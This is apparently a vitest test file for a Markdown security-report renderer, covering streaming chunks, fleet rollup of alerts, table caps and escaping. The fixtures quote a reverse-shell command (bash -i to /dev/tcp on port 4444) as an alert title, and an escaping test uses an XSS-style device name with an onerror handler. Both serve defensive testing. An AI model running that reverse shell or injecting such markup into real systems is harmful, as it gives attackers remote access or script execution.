import { readFileSync } from 'node:fs';
import type { Root } from 'mdast';
import { describe, expect, it } from 'vitest';
import { goldenResult } from '../../../test/golden/golden.js';
import { markdownChunks, renderMarkdown } from '../src/index.js';
import { fleetRun } from './fixtures/fleet.js';
import { manyDevices } from './fixtures/scenarios.js';
import { forbiddenNodes, headings, parse, raggedTables, tables, text } from './support/mdast.js';

/** The tables of a tree as header and rows of cell texts. */
function cells(tree: Root): { header: string[]; rows: string[][] }[] {
  return tables(tree).map((t) => {
    const [head, ...rows] = t.children.map((r) => r.children.map((c) => text(c)));
    return { header: head ?? [], rows };
  });
}

/** Reports written by the renderer before streaming and the fleet rollup (test/golden/*.md here). */
const golden = (name: string) => readFileSync(new URL(`./golden/${name}`, import.meta.url), 'utf8');

describe('markdownChunks', () => {
  it.each([
    ['wazuh1.report.md', () => goldenResult(), {}],
    ['wazuh1.compact.md', () => goldenResult(), { compact: true }],
    ['many-devices.md', () => manyDevices(), {}],
    ['many-devices.compact.md', () => manyDevices(), { compact: true }],
  ] as const)(
    '%s: joined, the chunks are the report as it was before streaming, byte for byte',
    (name, run, options) => {
      const chunks = [...markdownChunks(run(), options)];
      expect(chunks.join('')).toBe(golden(name));
      expect(renderMarkdown(run(), options)).toBe(golden(name));
      if (!('compact' in options)) expect(chunks.length).toBeGreaterThan(run().alerts.length);
    },
  );

  it('makes alert sections as the consumer reaches them (the first chunks come before the last section is made)', () => {
    const result = manyDevices();
    const chunks = markdownChunks(result);
    const first = chunks.next();
    expect(first.done).toBe(false);
    expect(first.value).toBe('# Security Analysis Report');
    const rest = [...chunks];
    expect(first.value + rest.join('')).toBe(renderMarkdown(result));
  });

  it('with a budget: one chunk, the budgeted report', () => {
    const chunks = [...markdownChunks(manyDevices(), { budget: 'slack' })];
    expect(chunks).toHaveLength(1);
    expect(chunks[0]).toBe(renderMarkdown(manyDevices(), { budget: 'slack' }));
  });
});

describe('fleet rollup', () => {
  const md = renderMarkdown(fleetRun(30));
  const tree = parse(md);

  it('rolls the same finding on 30 devices into one section; the single-device alert keeps its own', () => {
    const h = headings(tree);
    expect(h.filter((x) => /^FINDING-\d+/.test(x.text))).toEqual([
      { depth: 4, text: 'FINDING-001: sysstat activity collection (sa1 / debian-sa1) (30 devices)' },
    ]);
    expect(h.filter((x) => /^ALERT-\d+/.test(x.text)).map((x) => x.text)).toEqual([
      'ALERT-001: Reverse shell bash -i >& /dev/tcp/203.0.113.50/4444 0>&1',
    ]);
    expect(h.map((x) => x.text)).toContain('🌐 Fleet Findings (1 finding on 2 or more devices)');
    expect(h.map((x) => x.text)).toContain('🖥️ Device web-07 (1 alert)');
    expect(forbiddenNodes(tree)).toEqual([]);
    expect(raggedTables(tree)).toEqual([]);
  });

  it('says the device count, first and last seen, the shared evidence once, and lists every device with its alert', () => {
    const section = md.slice(md.indexOf('#### FINDING-001'), md.indexOf('### 🖥️ Device'));
    expect(section).toContain('- **Devices:** 30 · **Alerts:** 30 · **Events:** 90');
    expect(section).toContain('- **Seen:** first 2025-11-07 06:40:01 UTC, last 2025-11-07 06:54:01 UTC');
    expect(section).toContain('- **Key:** `debian-sa1`');
    expect(section.match(/\*\*Description:\*\*/g)).toHaveLength(1);
    expect(section.match(/\*\*Evidence Events:\*\*/g)).toHaveLength(1);
    const devices = cells(parse(section))[0]!;
    expect(devices.header).toEqual(['Device', 'Alert', 'Events', 'First Seen (UTC)', 'Last Seen (UTC)']);
    expect(devices.rows).toHaveLength(30);
    // Every alert of the finding is named once: nothing is lost in the rollup.
    const numbers = devices.rows.map((r) => r[1]).sort();
    expect(numbers).toEqual(Array.from({ length: 30 }, (_, i) => `ALERT-${String(i + 2).padStart(3, '0')}`));
    expect(section).not.toContain('more device');
  });

  it('counts findings and alerts in the summary, and gives the finding one row of the overview', () => {
    expect(md).toContain('- **Alerts Generated:** 31 (1 high, 30 low)');
    expect(md).toContain(
      '- **Findings:** 2 (1 finding on 2 or more devices, covering 30 alerts; 1 alert on one device)',
    );
    const overview = cells(tree)[0]!;
    expect(overview.rows.map((r) => [r[0], r[2], r[3], r[4]])).toEqual([
      ['ALERT-001', 'Reverse shell bash -i >& /dev/tcp/203.0.113.50/4444 0>&1', 'web-07', '1'],
      // The key tells apart the findings of one detector.
      ['FINDING-001', 'sysstat activity collection (sa1 / debian-sa1) · debian-sa1', '30 devices', '90'],
    ]);
  });

  it('caps the device table at 50 rows and counts the rest', () => {
    const big = renderMarkdown(fleetRun(80));
    const section = big.slice(big.indexOf('#### FINDING-001'), big.indexOf('### 🖥️ Device'));
    expect(cells(parse(section))[0]!.rows).toHaveLength(50);
    expect(section).toContain('_… and 30 more devices not listed._');
    expect(section).toContain('**Devices:** 80 · **Alerts:** 80');
  });

  it('compact: one line for the finding', () => {
    const compact = renderMarkdown(fleetRun(30), { compact: true });
    expect(compact).toContain(
      '- 🟢 LOW **FINDING-001** sysstat activity collection (sa1 / debian-sa1) · `debian-sa1` · 30 devices · 90 events',
    );
    expect(compact.match(/ALERT-\d+/g)).toEqual(['ALERT-001', 'ALERT-001']);
  });

  it('escapes every device name in the device table', () => {
    const hostile = renderMarkdown(
      fleetRun(5, (i) => (i === 2 ? 'web|03 <img src=x onerror=alert(1)> `x` [a](http://e.vil)' : undefined)),
    );
    const t = parse(hostile);
    expect(forbiddenNodes(t)).toEqual([]);
    expect(raggedTables(t)).toEqual([]);
    // The hostile name stays one cell, as a code span.
    expect(hostile).toContain('| ``web\\|03 <img src=x onerror=alert(1)> `x` [a](http://e.vil)`` | ALERT-');
    const section = hostile.slice(hostile.indexOf('#### FINDING-001'));
    expect(cells(parse(section))[0]!.rows).toHaveLength(5);
  });

  it('a finding on one device is not rolled up: a single-device run is laid out alert by alert', () => {
    const one = renderMarkdown(fleetRun(1));
    expect(one).not.toContain('FINDING-');
    expect(one).not.toContain('Fleet Findings');
    expect(one).not.toContain('**Findings:**');
  });

  it('numbers findings in the order the report shows them, in the overview and in the sections', () => {
    // A second low finding, on three servers, seen before any sysstat run: the result lists it after
    // the sysstat finding (fewer devices), the report shows it first (it is earlier).
    const r = fleetRun(30);
    const early = r.alerts
      .filter((a) => a.detectorId === 'defender/sysstat-collection')
      .slice(0, 3)
      .map((a, i) => ({
        ...a,
        id: `tl-early-${i}`,
        key: 'debian-sa2',
        firstSeen: `2025-11-07T05:0${i}:00.0000000Z`,
        lastSeen: `2025-11-07T05:0${i}:00.0000000Z`,
      }));
    const alerts = [
      ...r.alerts.filter((a) => a.severity === 'high'),
      ...early,
      ...r.alerts.filter((a) => a.severity === 'low'),
    ];
    const { findings: _, ...bare } = { ...r, alerts, summary: { ...r.summary, alertCount: alerts.length } };
    const two = renderMarkdown(bare as typeof r);
    const overview = cells(parse(two))[0]!;
    expect(overview.rows.map((row) => [row[0], row[3]])).toEqual([
      ['ALERT-001', 'web-07'],
      ['FINDING-001', '3 devices'],
      ['FINDING-002', '30 devices'],
    ]);
    expect(
      headings(parse(two))
        .filter((x) => /^FINDING-\d+/.test(x.text))
        .map((x) => x.text),
    ).toEqual([
      'FINDING-001: sysstat activity collection (sa1 / debian-sa1) (3 devices)',
      'FINDING-002: sysstat activity collection (sa1 / debian-sa1) (30 devices)',
    ]);
  });

  it('is the same bytes whatever order the findings come in', () => {
    const r = fleetRun(30);
    expect(renderMarkdown({ ...r, findings: [...r.findings].reverse() })).toBe(md);
    // A result without findings (hand-built) gets them from its alerts.
    const { findings: _, ...bare } = r;
    expect(renderMarkdown(bare as typeof r)).toBe(md);
  });
});
